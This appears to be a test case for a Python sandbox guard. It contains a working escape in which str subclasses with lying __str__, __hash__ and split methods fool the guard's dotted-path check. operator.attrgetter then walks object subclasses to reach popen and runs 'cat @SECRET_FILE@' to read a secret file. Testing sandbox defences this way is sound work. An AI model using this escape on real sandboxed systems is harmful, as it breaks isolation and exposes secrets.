# category: builtins
# attack: operator.attrgetter with a str subclass whose __str__ lies: the guard checked one dotted path, the walk read another
# profile: basic
# run-layer: guard
import operator
class S(str):
    # A str whose startswith lies and whose hash is wrong once (beating
    # the frozenset of frame names), then right for the real lookup.
    def startswith(self, *a):
        return False

    def __hash__(self):
        self.k = getattr(self, "k", 0) + 1
        return 7 if self.k == 1 else super().__hash__()


class D(S):
    # str(d) shows the guard a harmless path; the walk reads the real one,
    # in parts that lie too.
    def __str__(self):
        return "real"

    def split(self, sep=None):
        return [S(p) for p in super().split(sep)]


subs = operator.attrgetter(D("__class__.__base__.__subclasses__"))(())()
for c in subs:
    if operator.attrgetter(D("__name__"))(c) == "_wrap_close":
        g = operator.attrgetter(D("__init__.__globals__"))(c)
        print(g["popen"]("cat @SECRET_FILE@").read())
